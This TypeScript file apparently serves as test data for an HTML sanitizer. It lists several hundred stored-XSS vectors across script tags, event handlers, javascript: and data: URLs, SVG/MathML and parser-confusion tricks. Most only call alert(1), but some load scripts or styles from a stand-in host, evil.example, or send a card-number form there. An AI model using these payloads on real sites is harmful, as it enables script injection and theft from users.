import { tidyLine } from '#shared/values/text/tidy-text.ts';

/** One way to bring a script into stored HTML; `name` describes the idea. A vector that runs calls `alert`. */
export type XssVector = { name: string; html: string };

const family = (name: string, htmls: readonly string[]): XssVector[] =>
  htmls.map((html, index) => ({ name: `${name} ${index + 1}`, html }));

const HANDLERS = `
  onload onerror onclick ondblclick onmouseover onmouseenter onmousemove onmousedown onmouseup onwheel
  onfocus onblur onfocusin onkeydown onkeyup onkeypress oninput onchange onpaste oncopy oncut ondrag
  ondrop onpointerover onpointerenter ontouchstart onanimationstart onanimationend ontransitionend
  onscroll onresize ontoggle onbeforetoggle oncontextmenu onauxclick onselectstart
  onsecuritypolicyviolation oncontentvisibilityautostatechange
`
  .trim()
  .split(/\s+/);

const handlers = HANDLERS.map((handler) => ({
  name: `handler ${handler}`,
  html: `<p ${handler}=alert(1) tabindex=0 style="animation:x 1s">Text</p>`,
}));

const scripts = family('script', [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type=module>alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script/y>',
  '<script\u0000>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<script>alert(1)</script',
  '</p><script>alert(1)</script><p>',
  '<!--><script>alert(1)</script>-->',
  '<script>/*</p>*/alert(1)</script>',
  '<noscript><p title="</noscript><script>alert(1)</script>">',
  '<title><p title="</title><script>alert(1)</script>">',
  '<textarea><p title="</textarea><script>alert(1)</script>">',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<noembed><p title="</noembed><script>alert(1)</script>">',
  '<script>eval(atob("YWxlcnQoMSk="))</script>',
  '<script>\u2028alert(1)</script>',
]);

const images = family('image', [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" onerror\n=\nalert(1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img srcset="x 1x, javascript:alert(1) 2x" onerror=alert(1)>',
  '<img src="/images/a.svg" onload=alert(1)>',
  '<img src="/images/a.svg"onload=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=alert(1)>',
  "<img src='/a' title='' onerror=alert(1)//'>",
  '<img src="/a\u0000" onerror="alert(1)">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<image src=x onerror=alert(1)>',
  '<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>',
  '<img alt="` onerror=alert(1) x=`" src="/a">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="/\t/evil.example/pixel.gif">',
]);

const links = family('link', [
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\rscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="javascript&#x3A;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="filesystem:https://evil.example/x">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="jar:javascript:alert(1)!/">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="/x" ping="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<a href="/x" target="_blank" onfocus=alert(1) autofocus>x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\n/evil.example">x</a>',
  '<a href=\'javascript:alert("1")\'>x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="javascript:alert(1)" href="/x">x</a>',
  '<a title="x" href="&#1;javascript:alert(1)">x</a>',
  '<area href="javascript:alert(1)" shape=default>',
]);

const frames = family('frame', [
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<iframe src=x',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
  '<embed src="javascript:alert(1)">',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<applet code="javascript:alert(1)"></applet>',
  '<portal src="javascript:alert(1)"></portal>',
  '<fencedframe src="https://evil.example"></fencedframe>',
]);

const drawings = family('drawing', [
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><title><p title="</title><img src=x onerror=alert(1)>"></title></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
]);

const forms = family('form', [
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<input type=image src=x onerror=alert(1)>',
  '<input type=hidden accesskey=x onclick=alert(1)>',
  '<select onfocus=alert(1) autofocus><option>x</select>',
  '<textarea onfocus=alert(1) autofocus></textarea>',
  '<button onclick=alert(1)>x</button>',
  '<form><input name=innerHTML><input name=attributes></form>',
  '<form action="https://evil.example"><input name=card placeholder="Card number"></form>',
  '<keygen onfocus=alert(1) autofocus>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
]);

const styles = family('style', [
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<style>p{-moz-binding:url(https://evil.example/x.xml#x)}</style>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x</p>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="position:fixed;inset:0;z-index:99999;background:#fff">Pay here</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
]);

const documents = family('document', [
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  '<base href="https://evil.example/">',
  '<base href="javascript:/a/"><a href="..">x</a>',
  '<body onload=alert(1)>',
  '<html onmousemove=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<template><script>alert(1)</script></template>',
  '<p><template shadowrootmode=open><img src=x onerror=alert(1)></template></p>',
  '<slot onslotchange=alert(1)></slot>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<video poster="javascript:alert(1)" src=x onerror=alert(1)></video>',
  '<custom-tag onclick=alert(1)>x</custom-tag>',
  '<p id="location" name="cookie">x</p><a id=config><a id=config name=url href="https://evil.example">x</a>',
]);

const parsers = family('parser', [
  '<p/onclick=alert(1)>x</p>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<p title=`"><script>alert(1)</script>`>x</p>',
  '<p\u000conclick=alert(1)>x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  String.raw`\u003cscript\u003ealert(1)\u003c/script\u003e`,
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<p>\u0000<\u0000img src=x onerror=alert(1)></p>',
  '<table><tr><td><script>alert(1)</script></table><img src=x onerror=alert(1)>',
  '<ul><li><b><a href="/x"><ul><img src=x onerror=alert(1)>',
  `${'<b>'.repeat(300)}<img src=x onerror=alert(1)>`,
  '<p <img src=x onerror=alert(1)> >x</p>',
  '<a href="/x" title="x"onmouseover="alert(1)">x</a>',
  '<!<img src=x onerror=alert(1)>>',
  '</<img src=x onerror=alert(1)>>',
  '<\u0130mg src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "';alert(1)//",
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
]);

/** Ways to bring a script into a page by stored HTML, by the place where each of them begins. */
export const XSS_VECTORS: readonly XssVector[] = [
  ...scripts,
  ...handlers,
  ...images,
  ...links,
  ...frames,
  ...drawings,
  ...forms,
  ...styles,
  ...documents,
  ...parsers,
];

/** The vectors as the API stores them: in one line, without invisible characters. */
export const STORED_VECTORS: readonly string[] = [...new Set(XSS_VECTORS.map(({ html }) => tidyLine(html)))];
